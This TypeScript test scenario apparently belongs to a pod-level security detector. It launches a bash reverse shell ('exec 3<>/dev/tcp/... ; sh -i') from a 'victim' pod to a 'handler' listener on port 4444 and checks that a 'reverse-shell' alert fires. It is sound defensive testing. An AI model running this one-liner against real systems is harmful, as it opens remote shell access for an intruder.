import assert from 'node:assert/strict';
import { until } from '../../e2e/support/until.ts';
import { RunningTool } from '../support/running-tool.ts';
import type { LiveScenario } from '../support/scenario.ts';

const PORT = 4444;

export const scenario: LiveScenario = {
  what: 'a pod sends sh -i to a listener outside, where somebody types id',
  from: 'pod',
  pods: { victim: {} },
  hosts: { handler: {} },
  prepare: async (act) => void (await act.ownProgram('handler', 'speak', { listen: PORT, lines: ['id\n'] }).line()),
  run: async (act) => {
    const command = `exec 3<>/dev/tcp/${act.ip('handler')}/${PORT}; sh -i <&3 >&3 2>&3`;
    await using _shell = new RunningTool(act.member('victim'), 'bash', 'bash', ['-c', command]);
    await until('the shell is told', () => act.opened().length > 0, { withinMs: 10_000 });
  },
  expect: {
    rule: 'reverse-shell',
    severity: 'high',
    source: 'victim',
    target: 'handler',
    check: ({ evidence }) => assert.equal(evidence.direction, 'reverse'),
  },
};
